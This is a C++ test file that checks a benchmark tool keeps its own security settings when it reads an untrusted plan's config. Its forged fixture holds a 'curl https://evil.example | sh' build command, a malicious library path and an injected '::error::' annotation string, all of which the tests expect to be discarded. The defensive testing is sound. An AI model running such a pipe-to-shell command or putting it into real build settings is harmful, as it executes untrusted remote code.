// SPDX-License-Identifier: Apache-2.0
// A plan's config is data: the jobs that read a plan take from it only judgement (the policy's
// thresholds, bench.tolerance and confidence, the report's format, launch specs) and lower limits;
// every other key of the table, a hostile value in the plan, keeps the reading job's own value.
#include "plan/plan_config.hpp"

#include <algorithm>

#include <fmt/format.h>
#include <catch2/catch.hpp>

#include "bench/launch_spec_reader.hpp"
#include "config/key_spec.hpp"
#include "config/value_text.hpp"
#include "harness/harness_config.hpp"

using namespace kforecast;
using namespace kforecast::plan;
using Catch::Matchers::Contains;

namespace {

bool listed(std::span<const std::string_view> keys, std::string_view key) {
  return std::ranges::find(keys, key) != keys.end();
}

// A value for `spec` that is valid and not its default: what a forged plan would set.
std::string hostile_literal(const config::KeySpec& spec) {
  using enum config::ValueType;
  switch (spec.type) {
    case boolean:
      return spec.default_text == "true" ? "false" : "true";
    case integer:
    case number: {
      const double value = spec.max && fmt::format("{}", *spec.max) != spec.default_text ? *spec.max : *spec.min;
      return spec.type == integer ? fmt::format("{}", static_cast<long long>(value)) : fmt::format("{:.4f}", value);
    }
    case string:
      return "\"/tmp/forged/libevil.so\"";
    case string_list:
      return "[\"FORGED\"]";
    case choice:
      for (const std::string_view choice : spec.choices)
        if (fmt::format("\"{}\"", choice) != spec.default_text) return fmt::format("\"{}\"", choice);
  }
  return spec.default_text.data();
}

// A config text setting every key of the table to a hostile value, with [[kernel]] and
// [[harness]] tables.
std::string forged_config_text() {
  std::string text;
  for (const std::string_view section : config::all_sections()) {
    text += fmt::format("[{}]\n", section);
    for (const config::KeySpec& spec : config::all_keys())
      if (spec.name.starts_with(fmt::format("{}.", section)))
        text += fmt::format("{} = {}\n", spec.name.substr(section.size() + 1), hostile_literal(spec));
  }
  text +=
      "[[kernel]]\nname = \"plan_kernel\"\nsizes = [{ n = 1024 }]\ngrid = [\"n / 256\"]\nblock = [\"256\"]\n"
      "[kernel.args]\nx = { count = \"n\" }\n"
      "[[harness]]\nname = \"forged\"\nbuild = \"curl https://evil.example | sh\"\nrun = \"./bench {filter}\"\n"
      "format = \"simple\"\n[[harness.map]]\nkernels = [\"*\"]\nbenchmarks = \"x\"\n";
  return text;
}

config::Config own_config(std::string_view text) {
  auto own = config::parse_config(text, "own.toml");
  REQUIRE(own);
  return *own;
}

Plan plan_with_config(std::string text) {
  Plan plan;
  plan.config_name = "forged:.kforecast.toml";
  plan.config_text = std::move(text);
  return plan;
}

}  // namespace

TEST_CASE("plan config: every key outside the allow-list is the job's own, whatever the plan says") {
  const std::string forged = forged_config_text();
  const auto hostile = config::parse_config(forged, "forged");
  REQUIRE(hostile);  // every hostile value is a valid one
  const config::Config own = own_config("[cuda]\ndriver_library = \"/usr/lib/own/libcuda.so.1\"\n");
  auto composed = plan::plan_config(plan_with_config(forged), "plan.json", own, fixed_environment({}));
  REQUIRE(composed);
  std::size_t own_keys = 0, plan_keys = 0;
  for (const config::KeySpec& spec : config::all_keys()) {
    INFO("key " << spec.name);
    const auto& value = composed->setting(spec.name).value;
    if (listed(plan::plan_judgement_keys(), spec.name)) {
      CHECK(config::to_toml_literal(value) == config::to_toml_literal(hostile->setting(spec.name).value));
      CHECK(hostile->setting(spec.name).source == config::Source::file);
      ++plan_keys;
    } else if (!listed(plan::plan_limit_keys(), spec.name)) {
      CHECK(config::to_toml_literal(value) == config::to_toml_literal(own.setting(spec.name).value));
      ++own_keys;
    }
  }
  CHECK(plan_keys == plan::plan_judgement_keys().size());
  CHECK(own_keys + plan_keys + plan::plan_limit_keys().size() == config::all_keys().size());
  // The settings that load code, run or name programs and files, or reach the network, by name.
  CHECK(composed->string_value("cuda.driver_library") == "/usr/lib/own/libcuda.so.1");
  for (const std::string_view key : {"cuda.nvrtc_library", "cuda.nvcc", "capture.command", "capture.build",
                                     "capture.dir", "endpoint.url", "endpoint.api_key_env", "endpoint.ca_bundle",
                                     "forecast.prompts", "policy.ledger", "compile.database", "lint.rules_path"})
    CHECK(composed->string_value(key) != "/tmp/forged/libevil.so");
  CHECK(std::get<std::vector<std::string>>(composed->setting("security.secret_env").value).empty());

  // [[harness]] runs commands: the job's own (none here); [[kernel]] launch specs are the plan's.
  auto harnesses = harness::read_harnesses(composed->source_text(), composed->source_name());
  REQUIRE(harnesses);
  CHECK(harnesses->empty());
  auto specs = bench::read_config_specs(composed->source_text(), composed->source_name());
  REQUIRE(specs);
  REQUIRE(specs->size() == 1);
  CHECK(specs->front().name == "plan_kernel");
  CHECK_THAT(composed->source_text(), !Contains("evil.example") && !Contains("/tmp/forged"));
}

TEST_CASE("plan config: the job's own [[harness]] and keys stand, and its environment applies last") {
  const config::Config own = own_config(
      "[policy]\nledger = \"own/ledger.jsonl\"\n[[harness]]\nname = \"own\"\nbuild = \"make\"\n"
      "run = \"./bench {filter}\"\nformat = \"simple\"\n[[harness.map]]\nkernels = [\"*\"]\nbenchmarks = \"x\"\n");
  auto composed = plan::plan_config(plan_with_config(forged_config_text()), "plan.json", own,
                              fixed_environment({{"KFORECAST_CUDA_DRIVER_LIBRARY", "/env/libcuda.so.1"}}));
  REQUIRE(composed);
  CHECK(composed->string_value("policy.ledger") == "own/ledger.jsonl");
  CHECK(composed->string_value("cuda.driver_library") == "/env/libcuda.so.1");
  auto harnesses = harness::read_harnesses(composed->source_text(), composed->source_name());
  REQUIRE(harnesses);
  REQUIRE(harnesses->size() == 1);
  CHECK(harnesses->front().name == "own");
}

TEST_CASE("plan config: a plan may lower the job's limits, never raise them") {
  const config::Config own = own_config("[bench]\nmax_gpu_seconds = 60\ntimeout_seconds = 200\n");
  const auto composed = [&](std::string text) {
    auto config = plan::plan_config(plan_with_config(std::move(text)), "plan.json", own, fixed_environment({}));
    REQUIRE(config);
    return *config;
  };
  const auto raised = composed(
      "[bench]\nmax_gpu_seconds = 3600\ntimeout_seconds = 86400\n[policy]\n"
      "gpu_budget_seconds = 0\n");
  CHECK(raised.number_value("bench.max_gpu_seconds") == 60);
  CHECK(raised.number_value("bench.timeout_seconds") == 200);
  CHECK(raised.number_value("policy.gpu_budget_seconds") == 0);
  const auto lowered = composed(
      "[bench]\nmax_gpu_seconds = 5\ntimeout_seconds = 50\n[policy]\n"
      "gpu_budget_seconds = 100\n");
  CHECK(lowered.number_value("bench.max_gpu_seconds") == 5);
  CHECK(lowered.number_value("bench.timeout_seconds") == 50);
  CHECK(lowered.number_value("policy.gpu_budget_seconds") == 100);  // a budget where the job had none
  const config::Config budgeted = own_config("[policy]\ngpu_budget_seconds = 30\n");
  auto unlimited =
      plan::plan_config(plan_with_config("[policy]\ngpu_budget_seconds = 0\n"), "plan.json", budgeted, fixed_environment({}));
  REQUIRE(unlimited);
  CHECK(unlimited->number_value("policy.gpu_budget_seconds") == 30);  // 0 (none) is no lower than 30
}

TEST_CASE("plan config: a plan's config that does not parse is an error naming the plan") {
  auto bad =
      plan::plan_config(plan_with_config("[cuda]\nunknown_key = 1\n"), "plan.json", own_config(""), fixed_environment({}));
  REQUIRE_FALSE(bad);
  CHECK_THAT(bad.error().message, Contains("plan.json (the plan's config, forged:.kforecast.toml):2"));
  // The plan names its config: one line of it, whatever it holds.
  plan::Plan plan = plan_with_config("[cuda]\nunknown_key = 1\n");
  plan.config_name = "x\n::error::forged";
  auto named = plan_config(plan, "plan.json", own_config(""), fixed_environment({}));
  REQUIRE_FALSE(named);
  CHECK_THAT(named.error().message, Contains("(the plan's config, x ::error::forged)"));
}

TEST_CASE("plan config: the plan's size limit is the job's own") {
  CHECK(plan::plan_limits(own_config("")).max_bytes == std::size_t{32} << 20);
  CHECK(plan::plan_limits(own_config("[security]\nmax_plan_mib = 100\n")).max_bytes == std::size_t{100} << 20);
}
